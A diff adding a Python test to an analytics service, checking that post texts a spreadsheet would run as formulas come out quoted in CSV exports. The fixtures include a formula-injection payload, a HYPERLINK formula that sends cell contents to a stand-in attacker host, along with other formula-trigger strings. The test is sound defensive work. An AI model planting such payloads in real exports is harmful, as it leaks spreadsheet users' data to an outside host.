@@ -518,3 +518,17 @@ def test_every_series_summary_ranking_grid_and_snapshot_list_is_also_a_csv_table
     }
     assert (snapshot["day"], snapshot["followers"], snapshot["following"]) == ("2026-05-04", "10", "")
     assert workspace_client.get("/v1/analytics/series", query_string=period).mimetype == "application/json"
+
+
+def test_a_post_text_that_a_spreadsheet_would_run_is_a_quoted_cell_in_the_csv(
+    workspace_client: FlaskClient, services: Services, workspace: Workspace, channel: Channel
+) -> None:
+    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1", "-2+3", "@SUM(1)", "\tTab", "\rCR"]
+    for hour, text in enumerate(formulas):
+        add_published(services, workspace, channel, utc(2026, 5, 4, 9 + hour), text=text, likes=hour, views=9)
+    period = {"from": "2026-05-04T00:00", "to": "2026-05-06T00:00", "tz": "UTC"}
+
+    ranked = read_csv(workspace_client, "/v1/analytics/posts", **period)
+
+    assert sorted(row["text"] for row in ranked) == sorted("'" + text for text in formulas)
+    assert {row["likes"] for row in ranked} == {str(hour) for hour in range(len(formulas))}, "numbers stay"
